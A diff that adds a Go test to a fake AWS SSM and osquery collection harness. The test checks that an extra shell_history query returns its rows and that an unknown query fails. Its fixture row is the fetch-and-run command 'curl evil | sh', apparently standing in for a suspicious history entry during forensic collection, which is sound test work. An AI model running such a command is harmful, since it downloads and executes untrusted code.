@@ -142,3 +142,29 @@ func TestSendCommandFramedScript(t *testing.T) {
 		t.Errorf("status %s: the last command (echo) succeeded", out.Status)
 	}
 }
+
+// queryHost answers one query of its own besides the standard pack.
+type queryHost struct{ awsfake.Rows }
+
+func (queryHost) Query(sql string) ([]byte, bool) {
+	if strings.Contains(sql, "FROM shell_history") {
+		return awsfake.OsqueryJSON([]collect.Row{{"command": "curl evil | sh"}}), true
+	}
+	return nil, false
+}
+
+func TestQueryHostAnswersExtraQueries(t *testing.T) {
+	insts := testInstances(1, "g")
+	insts[0].Host = queryHost{insts[0].Host.(awsfake.Rows)}
+	srv := newServer(t, awsfake.Options{Instances: insts})
+	client := ssm.NewFromConfig(srv.Config())
+	extra := payload.QueryCommand("shell_history", "", "SELECT command FROM shell_history;")
+	id := send(t, client, []string{insts[0].Instance.ID}, extra.Shell+"\nosqueryi --json 'SELECT 1 FROM nowhere'")
+	out := waitFor(t, client, id, insts[0].Instance.ID)
+	if !strings.Contains(aws.ToString(out.StandardOutputContent), "curl evil | sh") {
+		t.Fatalf("extra query: stdout %q", aws.ToString(out.StandardOutputContent))
+	}
+	if out.ResponseCode != 1 || !strings.Contains(aws.ToString(out.StandardErrorContent), "SELECT 1 FROM nowhere") {
+		t.Fatalf("unknown query: code %d stderr %q", out.ResponseCode, aws.ToString(out.StandardErrorContent))
+	}
+}
